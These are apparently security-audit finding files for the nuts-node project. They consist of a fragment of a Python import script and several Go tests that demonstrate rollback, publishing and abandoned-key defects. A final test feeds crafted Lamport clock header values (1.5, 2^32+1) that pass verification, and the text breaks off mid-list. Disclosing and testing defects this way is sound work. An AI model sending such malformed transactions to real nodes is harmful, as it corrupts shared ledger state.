    for d in demos: shutil.copy(d, dst+'/'+os.path.basename(d)+'.txt' if False else dst+'/'+os.path.basename(d))
    if os.path.exists(src+'/README.md'): shutil.copy(src+'/README.md', dst+'/README.agent.md')
    ver=open(src+'/verify.txt').read()
    dest=ver.split('dest=')[1].split()[0]
    meta={"id":sid,"property":sid.split('-')[0],"what_changed":what,"needs_to_manifest":needs,
          "demo_files":[os.path.basename(d) for d in demos],"demo_goes_in":dest,
          "verified":{"how":"verify_seed.sh in a scratch git worktree of /repo HEAD (removed afterwards): git apply; go build ./...; existing tests of touched packages; demo with patch (must fail); demo without patch (must pass)","log":ver.strip().splitlines()},
          "source":"independent sub-agent given only the property text and its own scratch worktree"}
    old={}
    if os.path.exists(dst+'/meta.json'):
        old=json.load(open(dst+'/meta.json'))
    for k in ('detected_by','check_result'):
        if k in old: meta[k]=old[k]
    json.dump(meta,open(dst+'/meta.json','w'),indent=1)
    print('imported',sid)
