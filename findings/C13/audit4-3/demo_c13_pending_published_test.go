package vdr

import (
	"context"
	"errors"
	"fmt"
	"testing"

	"github.com/google/uuid"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/core"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/pki"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	"github.com/nuts-foundation/nuts-node/vdr/didsubject"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoFailingPublisher is the 2nd method of the subject (think did:nuts). Creation is published fine, publishing an update fails.
// At the moment of publishing it looks at what the node serves for the did:web DID of the subject.
type demoFailingPublisher struct {
	atPublishTime func()
}

func (d demoFailingPublisher) NewDocument(_ context.Context, _ orm.DIDKeyFlags) (*orm.DidDocument, error) {
	return &orm.DidDocument{DID: orm.DID{ID: fmt.Sprintf("did:nuts:%s", uuid.NewString())}}, nil
}

func (d demoFailingPublisher) NewVerificationMethod(_ context.Context, controller did.DID, _ orm.DIDKeyFlags) (*did.VerificationMethod, error) {
	return &did.VerificationMethod{ID: did.MustParseDIDURL(controller.String() + "#" + uuid.NewString())}, nil
}

func (d demoFailingPublisher) Commit(_ context.Context, change orm.DIDChangeLog) error {
	if change.Type == orm.DIDChangeCreated {
		return nil
	}
	d.atPublishTime()
	return errors.New("demo: network is down, can't publish")
}

func (d demoFailingPublisher) IsCommitted(_ context.Context, _ orm.DIDChangeLog) (bool, error) {
	return false, nil
}

// TestDemoC13_KeyOfAbandonedVersionIsPublished shows that the did:web document that the node serves (ResolveManaged is what
// GET /iam/{id}/did.json returns) contains the key of a document version that is still pending, and abandoned afterwards.
func TestDemoC13_KeyOfAbandonedVersionIsPublished(t *testing.T) {
	ctx := audit.TestContext()
	storageInstance := storage.NewTestStorageEngine(t)
	db := storageInstance.GetSQLDatabase()
	pkiMock := pki.NewMockValidator(gomock.NewController(t))
	node := NewVDR(nutsCrypto.NewDatabaseCryptoInstance(db), nil, nil, nil, storageInstance, pkiMock)
	require.NoError(t, node.Configure(core.ServerConfig{URL: "https://example.com", DIDMethods: []string{"web"}}))

	var webDID did.DID
	var servedAtPublishTime *did.Document
	node.Manager.(*didsubject.SqlManager).MethodManagers["nuts"] = demoFailingPublisher{atPublishTime: func() {
		var err error
		servedAtPublishTime, err = node.ResolveManaged(webDID)
		require.NoError(t, err)
	}}
	docs, subject, err := node.Create(ctx, didsubject.DefaultCreationOptions())
	require.NoError(t, err)
	require.Len(t, docs, 2)
	for _, doc := range docs {
		if doc.ID.Method == "web" {
			webDID = doc.ID
		}
	}
	before, err := node.ResolveManaged(webDID)
	require.NoError(t, err)
	require.Len(t, before.VerificationMethod, 1)

	// add a key, publishing fails for the 2nd method: the operation is abandoned
	_, err = node.AddVerificationMethod(ctx, subject, orm.AssertionKeyUsage())
	require.ErrorContains(t, err, "can't publish")
	after, err := node.ResolveManaged(webDID)
	require.NoError(t, err)
	require.Len(t, after.VerificationMethod, 1, "the operation is rolled back")

	// "keys created for an abandoned version are never published"
	require.NotNil(t, servedAtPublishTime)
	for _, vm := range servedAtPublishTime.VerificationMethod {
		assert.Equalf(t, before.VerificationMethod[0].ID.String(), vm.ID.String(),
			"the node served (published) a did:web document with key %s, that was created for an abandoned version", vm.ID)
	}
}
