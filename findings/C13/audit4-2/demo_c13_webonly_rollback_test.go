package vdr

import (
	"context"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/core"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/pki"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	"github.com/nuts-foundation/nuts-node/vdr/didsubject"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoStoppingMethod wraps the real did:web method manager, the process "stops" when the change is to be published
// (after the first database transaction, before the clean-up transaction).
type demoStoppingMethod struct {
	didsubject.MethodManager
}

func (d demoStoppingMethod) Commit(_ context.Context, _ orm.DIDChangeLog) error {
	panic("demo: process stops between the database write and the publish/clean-up")
}

// TestDemoC13_WebOnlyNodeNeverSweeps shows that a node with only did:web enabled never runs the rollback sweep:
// the change records of an operation during which the process stopped remain forever,
// and every later operation on the subject is refused with ErrPendingChange.
func TestDemoC13_WebOnlyNodeNeverSweeps(t *testing.T) {
	ctx := audit.TestContext()
	storageInstance := storage.NewTestStorageEngine(t)
	db := storageInstance.GetSQLDatabase()
	pkiMock := pki.NewMockValidator(gomock.NewController(t))
	config := core.ServerConfig{URL: "https://example.com", DIDMethods: []string{"web"}}
	service := did.Service{Type: "test", ServiceEndpoint: "https://example.com/endpoint"}

	// first run of the node: create a subject, the process stops while a service is being added
	node := NewVDR(nutsCrypto.NewDatabaseCryptoInstance(db), nil, nil, nil, storageInstance, pkiMock)
	require.NoError(t, node.Configure(config))
	require.NoError(t, node.Start())
	_, subject, err := node.Create(ctx, didsubject.DefaultCreationOptions())
	require.NoError(t, err)
	methodManagers := node.Manager.(*didsubject.SqlManager).MethodManagers
	methodManagers["web"] = demoStoppingMethod{MethodManager: methodManagers["web"]}
	func() {
		defer func() {
			require.NotNil(t, recover(), "expected the simulated process stop")
		}()
		_, _ = node.CreateService(ctx, subject, service)
	}()
	require.NoError(t, node.Shutdown())
	var changeCount int64
	require.NoError(t, db.Model(&orm.DIDChangeLog{}).Count(&changeCount).Error)
	require.Equal(t, int64(1), changeCount, "test setup: the change record of the interrupted operation is there")

	// the node is restarted 2 minutes later (simulated by moving the time stamps back)
	require.NoError(t, db.Exec("UPDATE did_document_version SET updated_at = updated_at - 120").Error)
	node = NewVDR(nutsCrypto.NewDatabaseCryptoInstance(db), nil, nil, nil, storageInstance, pkiMock)
	require.NoError(t, node.Configure(config))
	require.NoError(t, node.Start())
	defer node.Shutdown()

	// "at the latest after the rollback sweep (...) no change records remain, and a repeated attempt can succeed."
	// The sweep runs at startup, and then every minute.
	assert.Eventually(t, func() bool {
		require.NoError(t, db.Model(&orm.DIDChangeLog{}).Count(&changeCount).Error)
		return changeCount == 0
	}, 3*time.Second, 50*time.Millisecond, "no change records remain after the rollback sweep that runs at startup")
	_, err = node.CreateService(ctx, subject, service)
	assert.NoError(t, err, "a repeated attempt can succeed")
}
