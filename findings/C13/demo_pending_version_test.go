package didsubject

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"
	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gorm.io/gorm"
)

// demoMethod is a method manager like testMethod, but records what was published and has a programmable Commit.
type demoMethod struct {
	testMethod
	mux       sync.Mutex
	commit    func(change orm.DIDChangeLog) error // nil: publish OK
	published []string                            // raw documents for which Commit returned nil
}

func (d *demoMethod) Commit(_ context.Context, change orm.DIDChangeLog) error {
	d.mux.Lock()
	commit := d.commit
	d.mux.Unlock()
	if commit != nil {
		if err := commit(change); err != nil {
			return err
		}
	}
	d.mux.Lock()
	defer d.mux.Unlock()
	d.published = append(d.published, change.DIDDocumentVersion.Raw)
	return nil
}

// NewVerificationMethod returns a complete verification method (testMethod's has no key, which makes the generated document empty).
func (d *demoMethod) NewVerificationMethod(_ context.Context, controller did.DID, _ orm.DIDKeyFlags) (*did.VerificationMethod, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	id := did.DIDURL{DID: controller, Fragment: uuid.NewString()}
	return did.NewVerificationMethod(id, ssi.JsonWebKey2020, controller, key.Public())
}

// IsCommitted does what did:nuts does: the change is committed if it is what was published last.
func (d *demoMethod) IsCommitted(_ context.Context, change orm.DIDChangeLog) (bool, error) {
	d.mux.Lock()
	defer d.mux.Unlock()
	return len(d.published) > 0 && d.published[len(d.published)-1] == change.DIDDocumentVersion.Raw, nil
}

func demoVersions(t *testing.T, db *gorm.DB, id string) []int {
	var versions []int
	require.NoError(t, db.Model(&orm.DidDocument{}).Where("did = ?", id).Order("version asc").Pluck("version", &versions).Error)
	return versions
}

func demoAssertProperty(t *testing.T, db *gorm.DB, method *demoMethod, id string, abandonedKeyID string) {
	// Document versions of a DID are consecutive and only grow
	versions := demoVersions(t, db, id)
	for i, v := range versions {
		assert.Equalf(t, i, v, "document versions are not consecutive: %v", versions)
	}
	// keys created for an abandoned version are never published
	for _, raw := range method.published {
		assert.Falsef(t, strings.Contains(raw, abandonedKeyID), "key %s was created for a version that was abandoned, but it is published", abandonedKeyID)
	}
	// what's current in the database is what was published last
	latest, err := NewDIDDocumentManager(db).Latest(did.MustParseDID(id), nil)
	require.NoError(t, err)
	assert.False(t, strings.Contains(latest.Raw, abandonedKeyID), "the current document contains the key of the abandoned version")
	// no change records remain
	var count int64
	require.NoError(t, db.Model(&orm.DIDChangeLog{}).Count(&count).Error)
	assert.Equal(t, int64(0), count, "change records remain")
}

// Schedule: operation A (add key) wrote its new versions and is publishing; operation B (add service) on the same subject
// runs completely in between; then A's publish fails, so A is abandoned.
func TestDemo_OperationOnTopOfAVersionThatIsAbandoned_Overlap(t *testing.T) {
	ctx := audit.TestContext()
	db := testDB(t)
	method := &demoMethod{}
	m := SqlManager{DB: db, MethodManagers: map[string]MethodManager{"example": method}}
	docs, subject, err := m.Create(ctx, DefaultCreationOptions())
	require.NoError(t, err)
	id := docs[0].ID.String()

	aPublishing := make(chan struct{})
	aMayFail := make(chan struct{})
	method.mux.Lock()
	method.commit = func(change orm.DIDChangeLog) error {
		if len(change.DIDDocumentVersion.Services) > 0 {
			return nil // B
		}
		close(aPublishing)
		select {
		case <-aMayFail:
		case <-time.After(10 * time.Second):
		}
		return errors.New("network is down") // A
	}
	method.mux.Unlock()

	// A
	var aErr error
	var aDone = make(chan struct{})
	go func() {
		defer close(aDone)
		_, aErr = m.AddVerificationMethod(ctx, subject, orm.AssertionKeyUsage())
	}()
	<-aPublishing
	var abandoned orm.DidDocument
	require.NoError(t, db.Preload("VerificationMethods").Where("did = ? AND version = 1", id).First(&abandoned).Error)
	require.Len(t, abandoned.VerificationMethods, 1)
	abandonedKeyID := abandoned.VerificationMethods[0].ID

	// B: may be refused or may succeed, as long as the property holds
	_, bErr := m.CreateService(ctx, subject, did.Service{Type: "test", ServiceEndpoint: "https://example.com"})
	t.Logf("operation B: %v", bErr)

	close(aMayFail)
	<-aDone
	require.Error(t, aErr, "operation A is abandoned")

	demoAssertProperty(t, db, method, id, abandonedKeyID)
}

// Crash point: operation A (add key) stops after the first database transaction. The node restarts, the caller (who never got
// an answer) does something else with the subject (B: add service) before the rollback sweep handles A. Then the sweep runs.
func TestDemo_OperationOnTopOfAVersionThatIsAbandoned_Stop(t *testing.T) {
	ctx := audit.TestContext()
	db := testDB(t)
	method := &demoMethod{}
	m := SqlManager{DB: db, MethodManagers: map[string]MethodManager{"example": method}}
	docs, subject, err := m.Create(ctx, DefaultCreationOptions())
	require.NoError(t, err)
	id := docs[0].ID.String()

	// A: the process stops when the publish phase is reached
	type processStopped struct{}
	method.commit = func(_ orm.DIDChangeLog) error { panic(processStopped{}) }
	func() {
		defer func() {
			_, ok := recover().(processStopped)
			require.True(t, ok)
		}()
		_, _ = m.AddVerificationMethod(ctx, subject, orm.AssertionKeyUsage())
	}()
	method.commit = nil
	var abandoned orm.DidDocument
	require.NoError(t, db.Preload("VerificationMethods").Where("did = ? AND version = 1", id).First(&abandoned).Error)
	require.Len(t, abandoned.VerificationMethods, 1)
	abandonedKeyID := abandoned.VerificationMethods[0].ID

	// B: may be refused or may succeed, as long as the property holds
	_, bErr := m.CreateService(ctx, subject, did.Service{Type: "test", ServiceEndpoint: "https://example.com"})
	t.Logf("operation B: %v", bErr)

	// more than a minute passes since A, rollback sweep
	require.NoError(t, db.Model(&orm.DidDocument{}).Where("id = ?", abandoned.ID).Update("updated_at", time.Now().Add(-2*time.Minute).Unix()).Error)
	m.Rollback(ctx)

	demoAssertProperty(t, db, method, id, abandonedKeyID)

	// and further operations
	_, err = m.CreateService(ctx, subject, did.Service{Type: "other", ServiceEndpoint: "https://example.com/other"})
	require.NoError(t, err)
	demoAssertProperty(t, db, method, id, abandonedKeyID)
}
