package didnuts

import (
	"context"
	"encoding/json"
	"errors"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	"github.com/nuts-foundation/nuts-node/vdr/didnuts/didstore"
	"github.com/nuts-foundation/nuts-node/vdr/didsubject"
	"github.com/nuts-foundation/nuts-node/vdr/didweb"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_UpdateOfDeactivatedSubjectChangesOnlyDIDWeb: create a subject (did:nuts + did:web), deactivate it, then add a key.
// Demanded: the update changes the documents of all DIDs of the subject, or of none.
func TestDemo_UpdateOfDeactivatedSubjectChangesOnlyDIDWeb(t *testing.T) {
	ctrl := gomock.NewController(t)
	db := testDB(t)
	keyStore := nutsCrypto.NewDatabaseCryptoInstance(db)
	store := didstore.NewTestStore(t) // the real did:nuts document store (the node's view of the network)
	networkClient := network.NewMockTransactions(ctrl)
	nutsResolver := &Resolver{Store: store}
	nutsManager := NewManager(keyStore, networkClient, store, nutsResolver, db)
	webManager := didweb.NewManager(did.MustParseDID("did:web:example.com"), "iam", keyStore, db)
	webResolver := didsubject.Resolver{DB: db} // how the node resolves its own did:web DIDs
	manager := didsubject.New(db, map[string]didsubject.MethodManager{"nuts": nutsManager, "web": webManager}, keyStore, []string{"nuts", "web"})
	ctx := audit.TestContext()

	// the network: every transaction is accepted. A creation is fed back to the store (what the ambassador does),
	// updates are added to the store by the manager itself.
	var published []did.Document
	var clock uint32
	networkClient.EXPECT().CreateTransaction(gomock.Any(), gomock.Any()).DoAndReturn(func(_ context.Context, template network.Template) (dag.Transaction, error) {
		var document did.Document
		require.NoError(t, json.Unmarshal(template.Payload, &document))
		published = append(published, document)
		tx := testTransaction{clock: clock, ref: hash.RandomHash(), payloadHash: hash.SHA256Sum(template.Payload), signingTime: time.Now(), prevs: template.AdditionalPrevs}
		clock++
		if template.PublicKey != nil {
			require.NoError(t, store.Add(document, didstore.Transaction{Clock: tx.clock, PayloadHash: tx.payloadHash, Previous: tx.prevs, Ref: tx.ref, SigningTime: tx.signingTime}))
		}
		return tx, nil
	}).AnyTimes()

	docs, subject, err := manager.Create(ctx, didsubject.DefaultCreationOptions())
	require.NoError(t, err)
	require.Len(t, docs, 2)
	nutsDID, webDID := docs[0].ID, docs[1].ID
	require.Equal(t, "nuts", nutsDID.Method)
	require.NoError(t, manager.Deactivate(ctx, subject))
	_, _, err = nutsResolver.Resolve(nutsDID, nil)
	require.ErrorIs(t, err, resolver.ErrDeactivated)
	_, _, err = webResolver.Resolve(webDID, nil)
	require.ErrorIs(t, err, resolver.ErrDeactivated)
	require.Len(t, published, 2, "creation and deactivation of did:nuts")

	// the update
	_, updateErr := manager.AddVerificationMethod(ctx, subject, orm.AssertionKeyUsage())
	t.Logf("AddVerificationMethod: %v", updateErr)

	_, _, err = nutsResolver.Resolve(nutsDID, nil)
	nutsDeactivated := errors.Is(err, resolver.ErrDeactivated)
	webDoc, _, err := webResolver.Resolve(webDID, nil)
	webDeactivated := errors.Is(err, resolver.ErrDeactivated)
	if !webDeactivated {
		t.Logf("did:web document: %d verification method(s)", len(webDoc.VerificationMethod))
	}
	assert.Equal(t, nutsDeactivated, webDeactivated, "the update changed did:web but not did:nuts (deactivated: did:nuts=%v, did:web=%v)", nutsDeactivated, webDeactivated)

	// the did:nuts document version in the database is what the network has (that's what IsCommitted checks)
	latest, err := didsubject.NewDIDDocumentManager(db).Latest(nutsDID, nil)
	require.NoError(t, err)
	_, meta, err := store.Resolve(nutsDID, &resolver.ResolveMetadata{AllowDeactivated: true})
	require.NoError(t, err)
	assert.True(t, meta.Hash.Equals(hash.SHA256Sum([]byte(latest.Raw))), "did:nuts document version %d in the database was never published, but is not abandoned either", latest.Version)
	var count int64
	require.NoError(t, db.Model(&orm.DIDChangeLog{}).Count(&count).Error)
	assert.Equal(t, int64(0), count, "change records remain")
}
