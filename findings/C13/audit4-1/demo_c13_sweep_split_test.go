package didsubject

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// demoSplitMethod is a MethodManager for the demo. It behaves like the real managers:
//   - "web": Commit is a no-op, IsCommitted is always true (see vdr/didweb/manager.go)
//   - "nuts": Commit publishes, IsCommitted tells whether the version was published (see vdr/didnuts/manager.go)
type demoSplitMethod struct {
	method string
	// keyDelay is the time it takes to create a key (e.g. a remote key store)
	keyDelay time.Duration
	// stop makes Commit panic: the process stops after the first database transaction, before the publish.
	stop *bool
	// published contains the IDs of document versions that were published (nuts only)
	published map[string]bool
}

func (d demoSplitMethod) NewDocument(_ context.Context, _ orm.DIDKeyFlags) (*orm.DidDocument, error) {
	return &orm.DidDocument{DID: orm.DID{ID: fmt.Sprintf("did:%s:%s", d.method, uuid.NewString())}}, nil
}

func (d demoSplitMethod) NewVerificationMethod(_ context.Context, controller did.DID, _ orm.DIDKeyFlags) (*did.VerificationMethod, error) {
	time.Sleep(d.keyDelay)
	return &did.VerificationMethod{ID: did.MustParseDIDURL(controller.String() + "#" + uuid.NewString())}, nil
}

func (d demoSplitMethod) Commit(_ context.Context, change orm.DIDChangeLog) error {
	if *d.stop {
		panic("demo: process stops between the database write and the publish")
	}
	if d.published != nil {
		d.published[change.DIDDocumentVersionID] = true
	}
	return nil
}

func (d demoSplitMethod) IsCommitted(_ context.Context, change orm.DIDChangeLog) (bool, error) {
	if d.published == nil {
		return true, nil // did:web
	}
	return d.published[change.DIDDocumentVersionID], nil
}

// TestDemoC13_SweepSplitsTransaction shows that the rollback sweep decides on a part of an operation when the document
// versions of that operation were stamped in different seconds, and then throws away the change records of the other part.
func TestDemoC13_SweepSplitsTransaction(t *testing.T) {
	ctx := audit.TestContext()
	db := testDB(t)
	stop := false
	m := SqlManager{DB: db, MethodManagers: map[string]MethodManager{
		"web":  demoSplitMethod{method: "web", keyDelay: 2100 * time.Millisecond, stop: &stop},
		"nuts": demoSplitMethod{method: "nuts", keyDelay: 2100 * time.Millisecond, stop: &stop, published: map[string]bool{}},
	}}
	_, subject, err := m.Create(ctx, DefaultCreationOptions())
	require.NoError(t, err)
	dids, err := m.ListDIDs(ctx, subject)
	require.NoError(t, err)
	require.Len(t, dids, 2)

	// Add a key. Creating a key takes a while, so the 2 new document versions get an updated_at in different seconds.
	// The process stops after the first database transaction: nothing is published.
	stop = true
	func() {
		defer func() {
			require.NotNil(t, recover(), "expected the simulated process stop")
		}()
		_, _ = m.AddVerificationMethod(ctx, subject, orm.AssertionKeyUsage())
	}()
	stop = false

	var pending []orm.DidDocument
	require.NoError(t, db.Where("version = 1").Order("updated_at").Find(&pending).Error)
	require.Len(t, pending, 2)
	require.Greater(t, pending[1].UpdatedAt-pending[0].UpdatedAt, int64(1), "test setup: versions should be stamped in different seconds")

	// Time passes (simulated by moving all time stamps back by the same amount) until the sweep runs at the moment
	// that one of the versions is older than a minute, and the other is not yet.
	shift := pending[1].UpdatedAt - (time.Now().Unix() - 59)
	require.NoError(t, db.Exec("UPDATE did_document_version SET updated_at = updated_at - ?", shift).Error)
	m.Rollback(ctx)
	// ... and the sweep runs again, a minute later (and an hour later)
	require.NoError(t, db.Exec("UPDATE did_document_version SET updated_at = updated_at - 60").Error)
	m.Rollback(ctx)
	require.NoError(t, db.Exec("UPDATE did_document_version SET updated_at = updated_at - 3600").Error)
	m.Rollback(ctx)

	// "at the latest after the rollback sweep - every DID of the subject shows its previous version, no change records remain"
	var changeCount int64
	require.NoError(t, db.Model(&orm.DIDChangeLog{}).Count(&changeCount).Error)
	assert.Equal(t, int64(0), changeCount, "no change records remain")
	for _, id := range dids {
		latest, err := NewDIDDocumentManager(db).Latest(id, nil)
		require.NoError(t, err)
		assert.Equalf(t, 0, latest.Version, "%s must show its previous version (0): nothing was published for this operation", id)
		assert.Lenf(t, latest.VerificationMethods, 0, "%s: key created for an abandoned version must not be in the document", id)
	}
}
