package didnuts

import (
	"context"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/network"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	"github.com/nuts-foundation/nuts-node/vdr/didnuts/didstore"
	"github.com/nuts-foundation/nuts-node/vdr/didsubject"
	"github.com/nuts-foundation/nuts-node/vdr/didweb"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoStoppingManager is the real did:nuts manager, except that the process "stops" (panics) when the publish phase is reached.
// At that moment the first database transaction (documents + change log) of SqlManager.transactionHelper is committed already.
type demoStoppingManager struct {
	*Manager
}

type demoProcessStopped struct{}

func (demoStoppingManager) Commit(_ context.Context, _ orm.DIDChangeLog) error {
	panic(demoProcessStopped{})
}

// TestDemo_RollbackOfCreateThatWasNeverPublished:
//  1. a subject (did:nuts + did:web) is created, the process stops between the database write and the publish;
//  2. the node restarts, more than a minute passes, the rollback sweep runs.
//
// Demanded: no change records remain, the subject has no DIDs (its "previous version"), and the creation can be repeated.
func TestDemo_RollbackOfCreateThatWasNeverPublished(t *testing.T) {
	ctrl := gomock.NewController(t)
	db := testDB(t)
	keyStore := nutsCrypto.NewDatabaseCryptoInstance(db)
	store := didstore.NewTestStore(t) // the real did:nuts document store (the node's view of the network)
	networkClient := network.NewMockTransactions(ctrl)
	nutsManager := NewManager(keyStore, networkClient, store, &Resolver{Store: store}, db)
	webManager := didweb.NewManager(did.MustParseDID("did:web:example.com"), "iam", keyStore, db)
	ctx := audit.TestContext()
	const subject = "hospital"

	// 1. creation, the process stops after the first database transaction
	func() {
		defer func() {
			r := recover()
			_, ok := r.(demoProcessStopped)
			require.True(t, ok, "expected the simulated process stop, got: %v", r)
		}()
		stopping := didsubject.New(db, map[string]didsubject.MethodManager{
			"nuts": demoStoppingManager{Manager: nutsManager},
			"web":  webManager,
		}, keyStore, []string{"nuts", "web"})
		_, _, _ = stopping.Create(ctx, didsubject.DefaultCreationOptions().With(didsubject.SubjectCreationOption{Subject: subject}))
	}()
	var count int64
	require.NoError(t, db.Model(&orm.DIDChangeLog{}).Count(&count).Error)
	require.Equal(t, int64(2), count, "precondition: the change log of the interrupted creation (nuts + web)")

	// 2. restart; the change is older than a minute; rollback sweep
	manager := didsubject.New(db, map[string]didsubject.MethodManager{
		"nuts": nutsManager,
		"web":  webManager,
	}, keyStore, []string{"nuts", "web"})
	require.NoError(t, db.Model(&orm.DidDocument{}).Where("1 = 1").Update("updated_at", time.Now().Add(-2*time.Minute).Unix()).Error)
	manager.Rollback(ctx)

	// the property
	require.NoError(t, db.Model(&orm.DIDChangeLog{}).Count(&count).Error)
	assert.Equal(t, int64(0), count, "change records remain after the rollback sweep")
	require.NoError(t, db.Model(&orm.DidDocument{}).Count(&count).Error)
	assert.Equal(t, int64(0), count, "document versions of the abandoned creation remain after the rollback sweep")
	exists, err := manager.Exists(ctx, subject)
	require.NoError(t, err)
	assert.False(t, exists, "the subject of the abandoned creation still exists after the rollback sweep")

	// a repeated attempt can succeed
	networkClient.EXPECT().CreateTransaction(gomock.Any(), gomock.Any()).DoAndReturn(func(_ context.Context, _ network.Template) (dag.Transaction, error) {
		return testTransaction{}, nil
	}).AnyTimes()
	_, _, err = manager.Create(ctx, didsubject.DefaultCreationOptions().With(didsubject.SubjectCreationOption{Subject: subject}))
	assert.NoError(t, err, "the creation can't be repeated")
}
