package didsubject

// Demonstration for the C13 defect (fixed by "fix: remove the DID row of a never-committed creation"):
// place in /repo/vdr/didsubject and run  go test -run TestDemoC13 ./vdr/didsubject/
// Before the fix a failed publish during Create leaves an orphan `did` row: the subject "exists" without documents
// and a repeated Create for the same subject fails with "subject already exists".

import (
	"context"
	"errors"
	"testing"

	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	"github.com/stretchr/testify/require"
)

type commitFails struct {
	testMethod
	fail *bool
}

func (c commitFails) Commit(_ context.Context, _ orm.DIDChangeLog) error {
	if *c.fail {
		return errors.New("publish failed")
	}
	return nil
}

func TestDemoC13_failedCreateCanBeRetried(t *testing.T) {
	ctx := audit.TestContext()
	db := testDB(t)
	fail := true
	m := SqlManager{DB: db, MethodManagers: map[string]MethodManager{"example": commitFails{fail: &fail}}}
	opts := DefaultCreationOptions().With(SubjectCreationOption{Subject: "alice"})

	_, _, err := m.Create(ctx, opts)
	require.Error(t, err)

	var dids int64
	require.NoError(t, db.Model(&orm.DID{}).Count(&dids).Error)
	require.Equal(t, int64(0), dids, "no DID may remain after a failed creation")
	exists, err := m.Exists(ctx, "alice")
	require.NoError(t, err)
	require.False(t, exists, "subject must not exist after a failed creation")

	fail = false
	_, _, err = m.Create(ctx, opts)
	require.NoError(t, err, "a repeated attempt must be able to succeed")
}

func TestDemoC13_sweepRemovesUncommittedCreation(t *testing.T) {
	ctx := audit.TestContext()
	db := testDB(t)
	// simulate a crash between phase 1 and phase 2: documents + change log written, nothing committed
	didId := orm.DID{ID: "did:example:123", Subject: "bob"}
	doc := orm.DidDocument{ID: "1", DidID: didId.ID, UpdatedAt: 1}
	require.NoError(t, db.Save(&didId).Error)
	require.NoError(t, db.Save(&doc).Error)
	require.NoError(t, db.Save(&orm.DIDChangeLog{DIDDocumentVersionID: "1", Type: orm.DIDChangeCreated, TransactionID: "tx"}).Error)
	m := SqlManager{DB: db, MethodManagers: map[string]MethodManager{"example": testMethod{committed: false}}}

	m.Rollback(ctx)

	exists, err := m.Exists(ctx, "bob")
	require.NoError(t, err)
	require.False(t, exists, "subject of a never-committed creation must not exist after the sweep")
}
