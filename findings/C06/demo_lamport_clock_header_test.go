package dag

import (
	"context"
	"fmt"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_LamportClockHeaderIsTruncated shows that the `lc` header (a JSON number, so a float64 after parsing) is
// converted with uint32(float64) without any range or integer check. A transaction that declares lc=1.5, lc=1.999999,
// lc=4294967297 (2^32+1) or lc=-4294967295 is handled as if it declared lc=1 (the last two on amd64; the result of an
// out-of-range float->uint32 conversion is implementation-dependent in Go, e.g. arm64 saturates), passes the
// Lamport clock verifier and enters the DAG.
//
// Property: "its Lamport clock is exactly one more than the highest among them"
func TestDemo_LamportClockHeaderIsTruncated(t *testing.T) {
	ctx := context.Background()
	s := createState(t, NewPrevTransactionsVerifier(), NewTransactionSignatureVerifier(nil)).(*state)

	root := CreateTestTransactionWithJWK(0)
	require.NoError(t, s.Add(ctx, root, []byte{0, 0, 0, 0}))
	xorBefore, _ := s.XOR(MaxLamportClock)

	key := generateKey()
	payload := []byte("payload")
	sign := func(lc interface{}) []byte {
		headers := makeJWSHeaders(key, "key", true)
		require.NoError(t, headers.Set(versionHeader, 2))
		require.NoError(t, headers.Set(previousHeader, []string{root.Ref().String()}))
		require.NoError(t, headers.Set(lamportClockHeader, lc))
		data, err := jws.Sign([]byte(hashOf(payload)), jws.WithKey(headers.Algorithm(), key, jws.WithProtectedHeaders(headers)))
		require.NoError(t, err)
		return data
	}

	// sanity check: lc=1 is the (only) correct value, lc=2 is refused
	{
		tx, err := ParseTransaction(sign(2))
		require.NoError(t, err)
		require.ErrorIs(t, s.Add(ctx, tx, payload), ErrInvalidLamportClockValue)
	}

	// the only prev (root) has clock 0, so the only valid value is exactly 1
	for _, lc := range []interface{}{
		1.5,
